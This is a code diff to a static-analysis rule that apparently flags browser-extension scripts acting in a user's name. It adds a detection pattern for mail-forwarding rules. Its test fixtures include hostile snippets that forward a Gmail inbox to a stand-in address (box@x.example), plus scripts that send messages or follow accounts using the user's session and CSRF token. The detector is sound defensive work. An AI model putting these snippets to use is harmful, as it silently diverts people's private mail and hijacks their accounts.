@@ -1,4 +1,4 @@
-import { callsNamed, callsOf, constant, keysOf, listOf, Op, pattern, propertyOf, receiverOf, resolve, writesOf, type Call, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { apiPath, callsNamed, callsOf, constant, keysOf, listOf, Op, pattern, propertyOf, receiverOf, resolve, writesOf, type Call, type ScriptFacts } from '../../facts/javascript/query.ts';
 import { defineRule, type Hit } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample, type Judged } from './checkScripts.ts';
 import { listenersOf } from './listeners.ts';
@@ -22,6 +22,12 @@ export const actsInPersonsName = defineRule({
     const foreign = requestsOf(script).filter(({ to }) => leadsOut(to) && hostOf(to) !== undefined);
     const inPages = runsInPages(facts, file.path);
     if (inPages) yield* typesAndSends(script, hit);
+    if (mentions(script, FORWARDS)) {
+      for (const call of few(callsOf(script, 'fetch', '$.post', '$.ajax', 'axios.post'), 100)) {
+        const given = [pattern(script, call.args[0] ?? 0), ...[...originsOf(script, propertyOf(script, call.args[1] ?? 0, 'body') || (call.args[1] ?? 0))].flatMap((one) => (script.op[one] === Op.object ? keysOf(script, one) : [constant(script, one) ?? '']))];
+        if (given.some((text) => FORWARDS.test(text)) && posts(script, call)) yield hit(call.value, { message: 'It makes a rule by which the person’s mail is forwarded.' });
+      }
+    }
     if (foreign.length === 0) return;
     for (const call of few(callsOf(script, 'fetch'), 200)) {
       const address = call.args[0] ?? 0;
@@ -42,8 +48,11 @@ export const actsInPersonsName = defineRule({
       contentExample('(async () => { const job = await (await fetch("https://x.example/job")).json(); const key = document.querySelector("[name=csrf]").value; const b = new URLSearchParams({ key, body: job.text + " " + job.link, to: job.to }); await fetch("/messages/send/", { method: "POST", body: b, credentials: "include" }); })();'),
       contentExample('const token = () => document.cookie.match(/csrftoken=(\\w+)/)[1]; async function post(path) { return fetch("https://www.photos.example.com/api/web/" + path, { method: "POST", headers: { "x-csrftoken": token() } }); } (async () => { const list = await (await fetch("https://x.example/list.json")).json(); for (const t of list) await post("friendships/" + t.id + "/follow/"); })();'),
       contentExample('const one = (s) => document.querySelector(s); class Sender { constructor(api) { this.api = api; } async jobs() { return (await fetch(this.api + "/campaign")).json(); } async type(text) { one(\'div[contenteditable="true"]\').focus(); document.execCommand("insertText", false, text); one(\'span[data-icon="send"]\').click(); } async run() { for (const { text } of await this.jobs()) await this.type(text); } } setTimeout(() => new Sender("https://x.example").run(), 6e4);'),
+      contentExample('const body = new URLSearchParams({ act: "cf_add", cf2_emc: "true", cf2_email: "box@x.example", irf: "on" }); fetch(`/mail/u/0/?ik=${window.ik}&at=${window.GM_ACTION_TOKEN}&view=up`, { method: "POST", body });'),
+      backgroundExample('chrome.identity.getAuthToken({}, (t) => fetch("https://gmail.googleapis.com/gmail/v1/users/me/settings/filters", { method: "POST", headers: { Authorization: "Bearer " + t }, body: JSON.stringify({ action: { forward: "box@x.example" } }) }));'),
     ],
     good: [
+      backgroundExample('chrome.identity.getAuthToken({}, (t) => fetch("https://gmail.googleapis.com/gmail/v1/users/me/settings/filters", { headers: { Authorization: "Bearer " + t } }).then((r) => r.json()).then(show));'),
       contentExample('button.addEventListener("click", async () => { const { text } = await (await fetch("https://api.tool.example/reply")).json(); document.querySelector("div[contenteditable=true]").focus(); document.execCommand("insertText", false, text); document.querySelector("button.send").click(); });'),
       backgroundExample('(async () => { const list = await (await fetch("https://api.tool.example/list.json")).json(); for (const t of list) await fetch("https://app.tool.example/items/" + t.id, { method: "POST", headers: { "x-csrf-token": key } }); })();'),
       contentExample('(async () => { const list = await (await fetch("/api/list")).json(); await fetch("/api/mark", { method: "POST", body: JSON.stringify({ ids: list.ids }) }); fetch("https://stats.example/p"); })();'),
@@ -76,4 +85,12 @@ function* typesAndSends(script: ScriptFacts, hit: Judged['hit']): Generator<Hit>
 function selectorOf(script: ScriptFacts, call: Call): string {
   const made = resolve(script, receiverOf(script, call));
   return script.op[made] === Op.call ? (constant(script, listOf(script, script.b[made] as number)[0] ?? 0) ?? '') : '';
+}
+
+/** Where mail services make rules that forward what comes in. Sources: the reference of Gmail's and Microsoft Graph's interfaces, forms of Gmail's own pages. */
+const FORWARDS = /settings\/(forwardingAddresses|autoForwarding|filters)\b|\/messageRules\b|\bcf2_email\b|\bforwardingSmtpAddress\b|act=cf_add/i;
+
+function posts(script: ScriptFacts, call: Call): boolean {
+  const method = constant(script, propertyOf(script, call.args[1] ?? 0, 'method')) ?? constant(script, propertyOf(script, call.args[0] ?? 0, 'method'));
+  return method === undefined ? /\.post$/.test(apiPath(script, call.callee) ?? '') : /^(POST|PUT|PATCH)$/i.test(method);
 }
